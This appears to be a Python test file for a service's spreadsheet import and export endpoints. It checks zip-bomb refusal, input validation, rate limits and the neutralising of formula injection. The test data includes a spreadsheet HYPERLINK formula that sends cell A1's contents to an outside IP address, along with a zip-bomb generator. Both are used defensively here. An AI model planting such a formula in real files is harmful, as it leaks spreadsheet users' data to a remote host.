"""Files that do harm, and tables that leave the house: `/v1/imports` and `/v1/exports` over HTTP."""

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import msgspec
import pytest
from public_api import csv_bytes, headers_of, public_client, work_off, write_bomb, xlsx_bytes
from python_calamine import load_workbook
from worlds import World

from callout_backend.jobs import sheets as sheet_jobs
from callout_orders.imports import exports, runs
from callout_orders.imports.sheets import UNPACKED_BYTES_MAX
from callout_store.work import Database

FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"click")'


@pytest.fixture
async def world(db: Database) -> World:
    return await World(db).build(phones=0)


@pytest.fixture
async def client(db: Database) -> AsyncIterator[httpx.AsyncClient]:
    async with public_client(db) as client:
        yield client


async def test_a_bomb_is_refused_and_the_next_sheet_is_read(
    world: World, client: httpx.AsyncClient, tmp_path: Path
) -> None:
    """One customer's archive must not take the door away from everybody."""
    headers = {**await headers_of(world), "Accept-Language": "zh"}
    bomb = write_bomb(tmp_path / "bomb.xlsx", UNPACKED_BYTES_MAX // 1_000_000 + 1)
    refused = await client.post("/v1/imports", content=bomb, headers=headers)
    problem = refused.json()
    assert (refused.status_code, problem["code"], problem["path"]) == (422, "SHEET_REFUSED", "file")
    assert problem["details"]["reason"] == "zip_unpacked"
    assert f"{UNPACKED_BYTES_MAX}" in problem["detail"]
    good = await client.post("/v1/imports", content=csv_bytes([["描述"], ["漏水"]]), headers=headers)
    assert good.status_code == 202
    assert await world.value("select count(*) from import_run") == 1


async def test_a_reader_that_hangs_or_wants_too_much_is_ended(
    world: World, client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A library that loops on a hostile file must not hold a place for ever: its process is ended, the caller told."""
    headers = await headers_of(world)
    data = xlsx_bytes([["description"], ["x"]])
    monkeypatch.setattr(sheet_jobs, "SECONDS_MAX", 0.0)
    refused = await client.post("/v1/imports", content=data, headers=headers)
    assert (refused.status_code, refused.json()["details"]["reason"]) == (422, "memory")
    monkeypatch.undo()
    monkeypatch.setattr(sheet_jobs, "PROGRAM", "callout_backend.jobs.no_such_program")
    refused = await client.post("/v1/imports", content=data, headers=headers)
    assert refused.json()["details"]["reason"] == "memory", "a process that ends without an answer"
    monkeypatch.undo()
    assert (await client.post("/v1/imports", content=data, headers=headers)).status_code == 202


async def test_a_mapping_of_many_long_headers_is_carried_to_the_reader(
    world: World, client: httpx.AsyncClient
) -> None:
    """The widest mapping that is allowed must not be answered as if the database were down."""
    columns = [{"header": f"{n}" + "头" * 195, "field": f"field.f{n}"} for n in range(200)]
    table = [[column["header"] for column in columns], ["x"] * 200]
    answer = await client.post(
        "/v1/imports",
        files={"file": ("x.csv", csv_bytes(table))},
        data={"config": msgspec.json.encode({"columns": columns}).decode()},
        headers=await headers_of(world),
    )
    assert answer.status_code == 202, answer.text
    assert answer.json()["rowsTotal"] == 1


@pytest.mark.parametrize(
    ("call", "path"),
    (
        ({"content": b""}, "file"),
        ({"content": b"no_such_header\n1\n"}, "file"),
        ({"data": {"config": "{}"}, "files": {"other": ("x.csv", b"a\n1")}}, "file"),
        ({"files": {"file": ("x.csv", b"description\n1")}, "data": {"config": "{"}}, "config"),
        (
            {"files": {"file": ("x.csv", b"description\n1")}, "data": {"config": '{"columns": 1}'}},
            "config.columns",
        ),
        (
            {
                "files": {"file": ("x.csv", b"description\n1")},
                "data": {"config": '{"columns": [{"header": "a", "field": "nothing"}]}'},
            },
            "config.columns.0.field",
        ),
        # More than an argument of a process may hold.
        (
            {
                "files": {"file": ("x.csv", b"description\n1")},
                "data": {"config": '{"columns": [{"header": "%s", "field": "serial"}]}' % ("h" * 1_000_000)},
            },
            "config.columns.0.header",
        ),
        ({"content": b"description\n1", "params": {"sheet": "x" * 101}}, "sheet"),
        ({"content": b"description\n1", "params": {"dryRun": "perhaps"}}, "dryRun"),
        ({"content": b"description\n1", "params": {"system": "x" * 41}}, "system"),
    ),
)
async def test_bad_input_is_named(
    world: World, client: httpx.AsyncClient, call: dict[str, object], path: str
) -> None:
    """An integrator at two in the morning has nothing but the answer."""
    refused = await client.post("/v1/imports", headers=await headers_of(world), **call)  # type: ignore[arg-type]
    assert refused.status_code in (400, 422), refused.text
    assert refused.json()["path"] == path


async def test_so_many_at_once_and_no_more(world: World, client: httpx.AsyncClient) -> None:
    """A loop that posts sheets must not fill the database."""
    headers = await headers_of(world)
    data = csv_bytes([["description"], ["x"]])
    codes = [
        (await client.post("/v1/imports", content=data, headers=headers)).status_code
        for _ in range(runs.OPEN_MAX + 1)
    ]
    assert codes == [202] * runs.OPEN_MAX + [422]
    listed = (await client.get("/v1/imports", params={"first": 2}, headers=headers)).json()
    assert (len(listed["items"]), listed["hasMore"]) == (2, True)
    off = await client.post(f"/v1/imports/{listed['items'][0]['id']}/cancel", headers=headers)
    assert off.json()["state"] == "canceled"
    assert (await client.post("/v1/imports", content=data, headers=headers)).status_code == 202


async def test_an_export_holds_no_formula(world: World, client: httpx.AsyncClient) -> None:
    """What a customer writes must not run in the dispatcher's spreadsheet program."""
    headers = await headers_of(world)
    await world.order(description=FORMULA)
    await world.order(description="＝1+1\nsecond line")
    await world.order(description="-12")
    answer = await client.get("/v1/exports/orders", headers=headers)
    assert answer.headers["content-disposition"] == 'attachment; filename="orders.csv"'
    assert answer.content.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    at = table[0].index("Description")
    assert [row[at] for row in table[1:]] == ["-12", "'＝1+1\nsecond line", "'" + FORMULA]
    assert all(not cell.startswith(("=", "+", "@")) for row in table for cell in row)
    book = await client.get(
        "/v1/exports/orders", params={"format": "xlsx"}, headers={**headers, "Accept-Language": "zh"}
    )
    rows = load_workbook(io.BytesIO(book.content)).get_sheet_by_index(0).to_python()
    assert rows[0][0] == "工单号"
    at = rows[0].index("故障描述")
    assert FORMULA in [row[at] for row in rows[1:]]
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(book.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet, "no cell is a formula"


async def test_failed_rows_come_out_unchanged(world: World, client: httpx.AsyncClient) -> None:
    """The apostrophe that guards a cell on its way out is taken off on its way in."""
    headers = await headers_of(world)
    table = [["description", "phone", "note to self"], [FORMULA, "12", "+x"], ["", "12", "'=y"]]
    for format_, media in (("csv", "text/csv"), ("xlsx", "application/octet-stream")):
        run = (await client.post("/v1/imports", content=csv_bytes(table), headers=headers)).json()
        await work_off(world.db)
        failed = await client.get(
            f"/v1/imports/{run['id']}/failed", params={"format": format_}, headers=headers
        )
        if format_ == "csv":
            assert "'=HYPERLINK" in failed.text
        again = await client.post(
            "/v1/imports", content=failed.content, headers={**headers, "Content-Type": media}
        )
        assert again.json()["headers"] == run["headers"]
        rows = (await client.get(f"/v1/imports/{again.json()['id']}/rows", headers=headers)).json()["items"]
        assert [row["cells"] for row in rows] == [[FORMULA, "12", "+x"], ["", "12", "=y"]]
        await work_off(world.db)


async def test_an_export_that_is_too_large_is_refused_before_it_begins(
    world: World, client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A table that ends in the middle looks whole."""
    headers = await headers_of(world, "orders:read")
    for n in range(3):
        await world.order(description=f"Pump {n}")
    monkeypatch.setattr(exports, "ROWS_MAX", 2)
    refused = await client.get("/v1/exports/orders", headers=headers)
    assert (refused.status_code, refused.json()["details"]["limit"]) == (422, 2)
    narrow = await client.get("/v1/exports/orders", params={"state": "closed"}, headers=headers)
    assert narrow.status_code == 200


async def test_pages_of_an_export_join(
    world: World, client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Streamed page by page, each order stands in it once."""
    monkeypatch.setattr(exports, "PAGE", 2)
    for n in range(5):
        await world.order(description=f"Pump {n}")
    answer = await client.get("/v1/exports/orders", headers=await headers_of(world))
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    at = table[0].index("Description")
    assert [row[at] for row in table[1:]] == [f"Pump {n}" for n in (4, 3, 2, 1, 0)]
